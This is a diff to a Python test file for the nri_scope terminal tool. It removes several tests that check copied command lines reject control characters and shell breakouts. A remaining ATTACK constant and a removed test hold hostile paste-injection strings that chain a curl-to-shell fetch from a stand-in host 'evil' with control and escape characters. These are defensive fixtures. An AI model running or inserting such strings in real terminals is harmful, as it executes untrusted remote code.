@@ -6,7 +6,6 @@ from __future__ import annotations
 import base64
 import os
 import re
-import shlex
 import shutil
 import subprocess
 import tempfile
@@ -17,13 +16,10 @@ import yaml
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from nri_scope.errors import UsageError
-from nri_scope.filter import parse
 from nri_scope.text.yaml_text import YamlValue, shell_safe, to_yaml
-from nri_scope.tui.commands.copy import command_line, pasteable
 from tests.amount import amount
 from tests.tui.hostile import hostile_recording
-from tests.tui.screen import RECORDING, Shown, showing
+from tests.tui.screen import Shown, showing
 
 ATTACK = "c1\x03\ncurl evil | sh\n\x1b[201~"
 
@@ -116,17 +112,6 @@ def _run_pasted(text: str, folder: str, shell: list[str]) -> str:
     ).stdout
 
 
-@settings(max_examples=amount(40, 40), deadline=None)
-@given(st.lists(st.sampled_from([*_BREAKOUTS, *_SUFFIXES, "=ls", "~", "*", "{{a,b}}"]), max_size=4))
-def test_every_shell_passes_the_pasted_word_unchanged(parts: list[str]) -> None:
-    word = "".join(part.format("touch ran") for part in parts).replace("\n", "")
-    with tempfile.TemporaryDirectory() as folder:
-        for shell in _SHELLS:
-            printed = _run_pasted(pasteable(["printf", "<%s>", word]) + "\n", folder, shell)
-            assert f"<{word}>" in printed
-            assert not (Path(folder) / "ran").exists()
-
-
 async def test_text_copied_by_textual_is_escaped(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
@@ -140,39 +125,3 @@ async def test_text_copied_by_textual_is_escaped(
         (sequence,) = [text for text in written if "\x1b]52" in text]
         content = re.fullmatch(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", sequence)
         assert content and base64.b64decode(content[1]).decode() == screen.app.clipboard
-
-
-@pytest.mark.exhaustive
-async def test_command_line_with_control_characters_is_not_copied(tmp_path: Path) -> None:
-    where = parse('id:"c1\x03\ncurl evil\n"')
-    async with showing(where=where) as screen:
-        await screen.shows("matches")
-        await screen.press("Y")
-        await screen.shows("the command line contains control characters and was not copied")
-        assert screen.app.clipboard == ""
-    path = tmp_path / "r\n\x1b[31m.nriscope.db"
-    shutil.copy(RECORDING, path)
-    async with showing(path) as screen:
-        await screen.shows("1 of 34")
-        await screen.press("Y")
-        await screen.shows("the command line contains control characters and was not copied")
-        assert screen.app.clipboard == ""
-
-
-@settings(deadline=None)
-@given(st.lists(st.text(max_size=12), min_size=1, max_size=4))
-def test_command_line_is_one_line_and_parses_to_its_words(words: list[str]) -> None:
-    try:
-        line = pasteable(words)
-    except UsageError:
-        assert not all(word.isprintable() and word.isascii() for word in words)
-        return
-    assert line.isprintable()
-    assert shlex.split(line) == words
-
-
-def test_command_line_quotes_path_and_filter_and_rejects_controls() -> None:
-    line = command_line(Path("/tmp/a b.nriscope.db"), parse("pod:web took:>1ms"))
-    assert line == "nri-scope log '/tmp/a b.nriscope.db' --where 'pod:web took:>1ms'"
-    with pytest.raises(UsageError, match="control characters"):
-        command_line(Path("/tmp/a\x07.db"), None)
